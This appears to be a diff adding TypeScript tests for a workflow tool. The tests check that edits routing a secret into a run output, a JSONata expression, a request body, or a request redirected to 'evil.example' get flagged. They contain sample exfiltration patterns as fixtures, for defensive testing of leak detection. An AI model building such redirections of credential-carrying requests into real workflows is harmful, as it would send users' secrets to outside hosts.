@@ -119,6 +119,77 @@ describe("a secret moves with whatever decides its recipient", () => {
   });
 });
 
+describe("a step that reads a secret from an output must not be added or send it elsewhere", () => {
+  const settings = (value = "abc-123") =>
+    node("cfg", "transform", {
+      fields: [
+        { name: "host", value: "shop.example" },
+        { name: "api_key", value },
+      ],
+    });
+  const reading = () => http({ headers: { "x-api-key": "{{cfg.api_key}}" } });
+  const add = (type: GraphNode["type"], data: JsonObject) => (nodes: GraphNode[]) => [
+    ...nodes,
+    node("new", type, data),
+  ];
+  const output = (value: string) => add("return_output", { properties: [{ name: "x", type: "string", value }] });
+
+  test.each<[string, Definition, (nodes: GraphNode[]) => GraphNode[], string | null]>([
+    ["the output of the run", graph(settings()), output("{{cfg.api_key}}"), "new.properties.0.value"],
+    ["the whole output of the step", graph(settings()), output("{{cfg}}"), "new.properties.0.value"],
+    ["another field of the step", graph(settings()), output("{{cfg.host}}"), null],
+    ["a JSONata expression", graph(settings()), add("transform", { jsonata: "$string(cfg)" }), "new.jsonata"],
+    [
+      "what code returns",
+      graph(node("cfg", "code", { source: "return { a: input.password }", input: { password: "abc-123" } })),
+      output("{{cfg.a}}"),
+      "new.properties.0.value",
+    ],
+    [
+      "the address of a request",
+      graph(settings(), reading()),
+      withParams("ask", { url: "https://evil.example" }),
+      "ask.params.url",
+    ],
+    [
+      "the body of a request",
+      graph(settings(), http()),
+      withParams("ask", { body: "{{cfg.api_key}}" }),
+      "ask.params.body",
+    ],
+    ["the body of a request without the secret", graph(settings(), reading()), withParams("ask", { body: "a" }), null],
+    [
+      "the host of a request that another step names",
+      graph(
+        settings(),
+        node("base", "transform", { fields: [{ name: "host", value: "shop.example" }] }),
+        http({ url: "https://{{base.host}}/", headers: { "x-api-key": "{{cfg.api_key}}" } }),
+      ),
+      withData("base", { fields: [{ name: "host", value: "evil.example" }] }),
+      "base.fields.0.value",
+    ],
+    [
+      "a step that reads from one that reads it",
+      graph(settings(), node("copy", "transform", { fields: [{ name: "other", value: "{{cfg.api_key}}" }] })),
+      output("{{copy.other}}"),
+      "new.properties.0.value",
+    ],
+    [
+      "the default of an input",
+      {
+        ...graph(),
+        nodes: [node("in", "action_input", { properties: [{ name: "token", type: "string", default: "abc-123" }] })],
+      },
+      output("{{action_input.token}}"),
+      "new.properties.0.value",
+    ],
+    ["nothing but its name", graph(settings(), reading()), withData("ask", { name: "Ask" }), null],
+  ])("%s", (_what, before, change, expected) => {
+    const moved = moveAfter(before, change);
+    expect(moved?.split(": ")[1] ?? null).toBe(expected);
+  });
+});
+
 describe("a secret stays", () => {
   test.each<[string, Definition, (nodes: GraphNode[]) => GraphNode[]]>([
     ["nothing changed", graph(http()), (nodes) => nodes],
